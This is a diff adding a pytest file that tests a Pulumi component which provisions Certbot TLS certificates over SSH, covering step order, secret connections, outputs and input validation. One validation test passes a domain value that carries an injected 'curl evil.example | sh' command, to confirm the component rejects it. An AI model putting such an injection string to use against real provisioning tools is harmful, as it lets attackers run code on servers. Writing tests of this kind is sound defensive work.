@@ -1,0 +1,108 @@
+"""CertbotHost under Pulumi mocks: children, order, dependencies, secrecy and outputs."""
+
+from __future__ import annotations
+
+import pulumi
+import pytest
+from pulumi.runtime import rpc
+from pulumi_command import remote
+
+from components.certbot import CertbotConfigError, CertbotHost
+from components.certbot.scripts import render_script
+from components.certbot.spec import build_spec
+from tests.support.mocks import install_mocks
+
+CERT_STDOUT = "certificate: done\nexpires_at=2031-05-06T07:08:09Z\nserial=0ABC\nhttps_verified=true"
+RENEWAL_STDOUT = "renewal_timer=snap.certbot.renew.timer\nrenewal: done (changed=0)"
+
+
+def command_outputs(typ, name, inputs):
+    if typ != "command:remote:Command":
+        return {}
+    return {"stdout": CERT_STDOUT if name.endswith("-certificate") else RENEWAL_STDOUT, "stderr": ""}
+
+
+@pytest.fixture
+def run():
+    return install_mocks(outputs=command_outputs)
+
+
+def host(name="df-1", **overrides):
+    args = dict(connection=remote.ConnectionArgs(host="203.0.113.10", user="root", private_key="PRIVATE-KEY-XYZ",
+                                                 host_key="ssh-ed25519 AAAAC3Nza"),
+                domains=["df.example.com", "www.df.example.com"], email="ops@example.com", agree_tos=True)
+    args.update(overrides)
+    return CertbotHost(name, **args)
+
+
+@pulumi.runtime.test
+def test_children_in_order_each_depending_on_the_previous(run):
+    component = host()
+
+    def check(_):
+        commands = [r for r in run.mocks.registrations if r.typ == "command:remote:Command"]
+        assert [r.name for r in commands] == ["df-1-firewall", "df-1-snapd", "df-1-certbot", "df-1-certificate",
+                                             "df-1-renewal"]
+        parent = run.mocks.named("df-1")
+        assert parent.typ == "dreamfactory:certbot:CertbotHost"
+        urns = {r.name: f"urn:pulumi:unit::dreamfactory-infra::dreamfactory:certbot:CertbotHost$command:remote:Command::{r.name}"
+                for r in commands}
+        for before, after in zip(commands, commands[1:]):
+            assert urns[before.name] in after.dependencies, f"{after.name} does not depend on {before.name}"
+        assert all(r.parent.endswith("::df-1") for r in commands)
+
+    return pulumi.Output.all(component.expires_at, component.renewal_timer).apply(check)
+
+
+@pulumi.runtime.test
+def test_connection_is_secret_and_scripts_are_the_rendered_ones(run):
+    component = host()
+
+    def check(_):
+        spec = build_spec(domains=["df.example.com", "www.df.example.com"], email="ops@example.com", agree_tos=True)
+        for step in ("firewall", "snapd", "certbot", "certificate", "renewal"):
+            inputs = run.mocks.named(f"df-1-{step}").inputs
+            assert rpc.is_rpc_secret(inputs["connection"])
+            assert rpc.unwrap_rpc_secret(inputs["connection"])["hostKey"] == "ssh-ed25519 AAAAC3Nza"
+            assert inputs["create"] == render_script(step, spec)
+            assert "PRIVATE-KEY-XYZ" not in inputs["create"]
+        assert "triggers" not in run.mocks.named("df-1-certificate").inputs
+        assert run.mocks.named("df-1-renewal").inputs["triggers"] == ["0ABC"]  # re-verify after a new certificate
+
+    return component.renewal_timer.apply(check)
+
+
+@pulumi.runtime.test
+def test_outputs_come_from_the_steps(run):
+    component = host(cert_name="dreamfactory")
+
+    def check(values):
+        assert values == ["dreamfactory", "/etc/letsencrypt/live/dreamfactory/fullchain.pem",
+                          "/etc/letsencrypt/live/dreamfactory/privkey.pem", "2031-05-06T07:08:09Z",
+                          "snap.certbot.renew.timer", True]
+        assert not any("host_key" in warning for warning in run.warnings)
+
+    return pulumi.Output.all(component.cert_name, component.certificate_path, component.private_key_path,
+                             component.expires_at, component.renewal_timer, component.https_verified).apply(check)
+
+
+@pulumi.runtime.test
+def test_firewall_none_and_a_sudo_user(run):
+    component = host(name="df-2", firewall="none",
+                     connection=remote.ConnectionArgs(host="203.0.113.11", user="deploy", private_key="K"))
+
+    def check(_):
+        names = [r.name for r in run.mocks.registrations if r.typ == "command:remote:Command"]
+        assert names == ["df-2-snapd", "df-2-certbot", "df-2-certificate", "df-2-renewal"]
+        assert run.mocks.named("df-2-snapd").inputs["create"].startswith("sudo -n true")
+        assert any("no connection.host_key" in warning for warning in run.warnings)
+
+    return pulumi.Output.all(component.expires_at, component.renewal_timer).apply(check)
+
+
+def test_bad_input_registers_nothing(run):
+    with pytest.raises(CertbotConfigError, match="'domains'"):
+        host(domains=["df.example.com && curl evil.example | sh"])
+    with pytest.raises(CertbotConfigError, match="'connection.user'"):
+        host(connection=remote.ConnectionArgs(host="h", user=pulumi.Output.from_input("root")))
+    assert run.mocks.registrations == []
